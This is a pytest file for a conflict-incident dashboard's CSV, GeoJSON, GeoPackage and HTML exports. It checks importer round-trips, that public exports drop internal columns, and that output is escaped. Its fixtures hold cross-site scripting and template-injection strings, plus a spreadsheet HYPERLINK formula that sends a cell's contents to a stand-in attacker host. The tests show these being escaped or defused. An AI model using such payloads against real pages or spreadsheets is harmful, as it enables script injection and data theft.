"""File exports of exactly the incidents given: each can be read back by the native importer to the same incidents
(dataset version), GIS tools open them with the right feature count, public mode drops the internal columns, and
the HTML map is self-contained and escapes hostile text."""

from __future__ import annotations

import io
import json
import re
import subprocess
from datetime import date
from functools import cache

import pandas as pd
import pyogrio
import pytest

from dashboard.data.importer import import_file, read_any
from dashboard.data.public import public_view
from dashboard.data.reference import cercle_seats
from dashboard.data.schema import COLUMNS, FLAT_COLUMNS, INTERNAL_COLUMNS, parse_sources
from dashboard.data.store import dataset_version, load_bundled, read_store, write_store
from dashboard.data.validate import empty_incidents, validate_flat
from dashboard.export.briefing import default_basemap
from dashboard.export.files import to_csv_bytes, to_geojson_bytes, to_gpkg_bytes, to_html_bytes
from dashboard.query.filters import filter_incidents
from dashboard.query.spec import FilterSpec
from dashboard.viz.assets import remote_asset_links
from dashboard.viz.maps import as_points, plottable
from tests.factories import incidents, row

OCT_2025 = FilterSpec(start=date(2025, 10, 1), end=date(2025, 10, 31))


@cache
def hostile():
    """Two incidents with markup, template syntax and a formula in their text (built on first use)."""
    return incidents(
        row(summary="<script>alert(1)</script> said \"x\", then\nnew line; =HYPERLINK(\"http://x\")",
            location="Kamona <img src=x onerror=alert(2)>", victims="{{ 7*7 }} ${alert(3)} `tick`"),
        row(incident_id="T-2", latitude="", longitude="", geo_precision="3", location="Ballé, région",
            fatalities_min="", fatalities_max="", civilian_targeting="", verification_note="witness named Secret-Name"),
    )


@pytest.fixture(scope="module")
def bundled():
    return load_bundled()


def ogr_feature_counts(path) -> dict[str, int]:
    out = subprocess.run(["ogrinfo", "-so", "-al", str(path)], capture_output=True, text=True, check=True).stdout
    layers = re.findall(r"Layer name: (\S+)", out)
    counts = [int(c) for c in re.findall(r"Feature Count: (\d+)", out)]
    assert len(layers) == len(counts), out
    return dict(zip(layers, counts, strict=True))


def read_back(path):
    """What the native importer reads from an exported file, validated like an import."""
    result = validate_flat(read_any(path), source_name=path.name)
    assert result.rejects.empty, result.rejects.to_string()
    return result.valid


@pytest.mark.parametrize("spec", [FilterSpec(), OCT_2025], ids=["all", "oct2025"])
def test_csv_round_trips_through_the_native_importer(tmp_path, bundled, spec):
    view = filter_incidents(bundled, spec)
    path = tmp_path / "export.csv"
    path.write_bytes(to_csv_bytes(view))
    header = path.read_text(encoding="utf-8-sig").splitlines()[0].split(",")
    assert header == list(FLAT_COLUMNS)
    back = read_back(path)
    assert dataset_version(back) == dataset_version(view)
    assert list(back["incident_id"]) == list(view["incident_id"])


def test_an_export_imported_into_its_own_store_changes_nothing(tmp_path, bundled):
    store = tmp_path / "store.gpkg"
    write_store(store, bundled)
    before = store.read_bytes()
    path = tmp_path / "all.csv"
    path.write_bytes(to_csv_bytes(bundled))
    report = import_file(path, store)
    assert (report.added, report.rejected, report.duplicates) == (0, 0, len(bundled))
    assert store.read_bytes() == before


def test_user_rows_exported_import_into_an_empty_store_as_they_were(tmp_path):
    rows = incidents(row(verification="reported"), row(incident_id="U-2", source_record_id="U-2",
                                                       verification="contested", latitude="", longitude="",
                                                       geo_precision="3"))
    store = tmp_path / "empty.gpkg"
    write_store(store, empty_incidents())
    path = tmp_path / "user.csv"
    path.write_bytes(to_csv_bytes(rows))
    report = import_file(path, store)
    assert (report.added, report.rejected, report.duplicates) == (2, 0, 0)
    assert dataset_version(read_store(store)) == dataset_version(rows)


def test_the_curated_record_cannot_be_imported_from_a_file(tmp_path, bundled):
    """An export carries no provenance: its curated rows would become user rows posing as curated ones (and the
    bundled UCDP layer's rows user rows posing as UCDP events)."""
    store = tmp_path / "empty.gpkg"
    write_store(store, empty_incidents())
    path = tmp_path / "all.csv"
    path.write_bytes(to_csv_bytes(bundled))
    before = store.read_bytes()
    report = import_file(path, store)
    assert (report.added, report.rejected) == (0, len(bundled))
    assert set(report.problems["column"]) == {"incident_id"}
    owner = {"segou-curated": "segou-curated", "ucdp-ged-21.1": "ucdp"}
    said = dict(zip(report.problems["incident_id"], report.problems["problem"], strict=True))
    for ident, dataset in zip(bundled["incident_id"], bundled["dataset"], strict=True):
        assert f"belong to the {owner[dataset]} dataset" in said[ident]
    assert store.read_bytes() == before


def test_csv_keeps_awkward_text_and_unknowns(tmp_path):
    path = tmp_path / "hostile.csv"
    path.write_bytes(to_csv_bytes(hostile()))
    back = read_back(path)
    assert dataset_version(back) == dataset_version(hostile())
    assert back.loc[0, "summary"] == hostile().loc[0, "summary"]
    assert back["fatalities_min"].isna().tolist() == [False, True]  # unknown stays unknown, never 0
    assert back.geometry.isna().tolist() == [False, True]


def test_spreadsheet_safe_csv_defuses_cells_that_start_like_formulas():
    risky = incidents(row(summary='=HYPERLINK("http://evil.example/?"&A1,"click")', location="+Kamona",
                          perpetrators="@SUM(1)", victims="-2+3", latitude="14.25", longitude="-5.99"),
                      row(incident_id="T-2", summary="Killed = 3 (a summary, not a formula)"))
    exact = pd.read_csv(io.BytesIO(to_csv_bytes(risky)), dtype=str, keep_default_na=False, encoding="utf-8-sig")
    safe = pd.read_csv(io.BytesIO(to_csv_bytes(risky, spreadsheet_safe=True)), dtype=str, keep_default_na=False,
                       encoding="utf-8-sig")
    assert exact.loc[0, "summary"].startswith("=HYPERLINK")  # default: exactly the text
    for col in ("summary", "location", "perpetrators", "victims"):
        assert safe.loc[0, col] == "'" + exact.loc[0, col], col
    assert safe.loc[1, "summary"] == exact.loc[1, "summary"]  # "=" inside the text is harmless
    assert safe.loc[0, "longitude"] == exact.loc[0, "longitude"] == "-5.99"  # numbers stay numbers
    unchanged = [c for c in exact.columns if c not in {"summary", "location", "perpetrators", "victims"}]
    assert safe[unchanged].equals(exact[unchanged])


def test_geojson_is_an_rfc7946_feature_collection(tmp_path, bundled):
    view = filter_incidents(bundled, OCT_2025)
    doc = json.loads(to_geojson_bytes(view))
    assert doc["type"] == "FeatureCollection"
    assert "crs" not in doc  # RFC 7946: WGS84 longitude/latitude, no crs member
    assert len(doc["features"]) == len(view)
    by_id = {f["properties"]["incident_id"]: f for f in doc["features"]}
    kamona, road = by_id["SEG-2025-008"], by_id["SEG-2025-015"]
    lon, lat = kamona["geometry"]["coordinates"]
    assert kamona["geometry"]["type"] == "Point" and -7 < lon < -4 and 12 < lat < 16  # [lon, lat] order
    assert road["geometry"] is None  # region-level (somewhere on the Ségou-Bamako road): a feature without a point
    props = kamona["properties"]
    assert list(props) == list(COLUMNS)
    assert isinstance(props["sources"], list) and props["sources"][0]["url"].startswith("http")
    assert props["sources"] == json.loads(view.loc[view["incident_id"] == "SEG-2025-008", "sources"].iloc[0])
    assert (props["fatalities_min"], props["fatalities_max"], props["date_start"]) == (21, 37, "2025-10-02")
    path = tmp_path / "oct.geojson"
    path.write_bytes(to_geojson_bytes(view))
    assert ogr_feature_counts(path) == {"oct": len(view)}
    assert dataset_version(read_back(path)) == dataset_version(view)


def test_geojson_round_trips_every_bundled_incident(tmp_path, bundled):
    path = tmp_path / "all.geojson"
    path.write_bytes(to_geojson_bytes(bundled))
    assert ogr_feature_counts(path) == {"all": len(bundled)}
    assert dataset_version(read_back(path)) == dataset_version(bundled)


def test_geopackage_opens_in_ogrinfo_and_round_trips(tmp_path, bundled):
    view = filter_incidents(bundled, OCT_2025)
    path = tmp_path / "oct.gpkg"
    path.write_bytes(to_gpkg_bytes(view))
    n_sources = sum(len(parse_sources(c)) for c in view["sources"])
    assert ogr_feature_counts(path) == {"incidents": len(view), "sources": n_sources}
    assert dataset_version(read_store(path)) == dataset_version(view)
    assert dataset_version(read_back(path)) == dataset_version(view)


def test_public_exports_leave_out_the_internal_columns(tmp_path):
    coarse = public_view(hostile(), cercle_seats())
    csv_header = to_csv_bytes(coarse, public=True).decode("utf-8-sig").splitlines()[0].split(",")
    assert not set(INTERNAL_COLUMNS) & set(csv_header)
    doc = json.loads(to_geojson_bytes(coarse, public=True))
    assert not set(INTERNAL_COLUMNS) & set(doc["features"][0]["properties"])
    path = tmp_path / "public.gpkg"
    data = to_gpkg_bytes(hostile(), public=True)
    assert b"Secret-Name" not in data  # dropped, and not left in free pages either
    path.write_bytes(data)
    fields = set(pyogrio.read_info(path, layer="incidents")["fields"])
    assert not set(INTERNAL_COLUMNS) & fields
    assert ogr_feature_counts(path)["incidents"] == len(hostile())
    assert b"Secret-Name" in to_gpkg_bytes(hostile())  # ...while the full export keeps it


def test_html_map_is_self_contained_and_escapes_hostile_text():
    page = to_html_bytes(hostile(), basemap=default_basemap(), title="Briefing {{ 7*7 }}zz <b>bold</b>",
                         description="Incidents mentioning '<script>alert(4)</script>'").decode("utf-8")
    assert remote_asset_links(page) == []
    assert "<script>alert(1)</script>" not in page
    assert "<script>alert(4)</script>" not in page
    assert "<img src=x onerror" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "49zz" not in page and "&#123;&#123; 7*7 &#125;&#125;zz" in page  # no template ran on the title
    assert "<b>bold</b>" not in page
    assert page.count("incident-marker precision-") == len(plottable(hostile())) == 1


def test_html_map_of_a_filtered_set_draws_exactly_its_points(bundled):
    view = filter_incidents(bundled, OCT_2025)
    page = to_html_bytes(view, basemap=default_basemap()).decode("utf-8")
    assert page.count("incident-marker precision-") == len(as_points(view))
    assert "SEG-2025-008" in page and "SEG-2017-001" not in page
